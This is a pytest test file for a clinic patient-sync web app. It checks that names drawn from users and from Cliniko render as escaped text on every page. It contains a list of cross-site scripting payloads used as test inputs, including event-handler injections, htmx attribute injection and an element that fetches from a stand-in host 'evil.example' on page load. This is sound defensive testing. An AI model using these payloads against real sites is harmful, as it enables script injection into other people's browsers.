"""Names come from people and from Cliniko: whatever they hold is text, on every page."""

from __future__ import annotations

import pytest

from tests.api.rows import make_log, record, refuse, store
from tests.cast import Cast
from tests.pages.visitor import Parsed, Visitor
from webapp.extensions import transaction
from webapp.models import Patient, SyncFailure, SyncLog, SyncStatus

HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</title><svg onload=alert(1)>",
    "<div hx-get=//evil.example hx-trigger=load>",
    '" data-hx-post="/clinics/1/syncs" hx-on:click="alert(1)',
    "{{ 7*7 }}{% raw %}",
    "<!-- ",
    "\u202eevil\u2028",
    "x" * 190,
]
Shape = list[tuple[str, tuple[str, ...]]]


@pytest.fixture
def pages(cast: Cast) -> list[str]:
    """The pages that show a clinic, a patient, a sync that failed, and a record that did."""
    store(cast.surf, record(1, "a", "b", email="c", phones=(("d", "e"),), preferred_first_name="f"))
    refused = refuse(cast.surf, 1)
    make_log(cast.surf, SyncStatus.FAILED, error_code="INTERNAL_ERROR")
    base = f"/clinics/{cast.surf.id}"
    own = ("", "/patients", "/patients/1", f"/syncs/{refused.id}", "/syncs", "/settings")
    return ["/clinics", *(base + path for path in own)]


def write_everywhere(cast: Cast, name: str) -> None:
    """Put the name wherever one can stand."""
    with transaction() as session:
        cast.surf.name = cast.surf.cliniko_name = name
        session.query(SyncLog).update({"error_message": name})
        session.query(SyncFailure).update(
            {"cliniko_patient_id": name[:40], "field": name[:40], "reason": name}
        )
        patient = session.query(Patient).one()
        patient.first_name = patient.last_name = patient.preferred_first_name = name
        patient.email = patient.phone = name
        patient.phones = [{"type": name, "number": name}]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_adds_no_tag_and_no_attribute(
    alice: Visitor, cast: Cast, pages: list[str], name: str
) -> None:
    write_everywhere(cast, "plain")
    plain = [shape_of(alice, path) for path in pages]
    write_everywhere(cast, name)
    assert [shape_of(alice, path) for path in pages] == plain


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_stands_there_as_it_was_written(
    alice: Visitor, cast: Cast, pages: list[str], name: str
) -> None:
    write_everywhere(cast, name)
    for path in pages:
        seen = Parsed(alice.get(path).text).text
        assert " ".join(name[:40].split()) in seen, path


def shape_of(visitor: Visitor, path: str) -> Shape:
    """The tags of a page with the names of their attributes; a list may be in another order."""
    answer = visitor.get(path)
    assert answer.status_code == 200
    return sorted((tag, tuple(attributes)) for tag, attributes in Parsed(answer.text).tags)
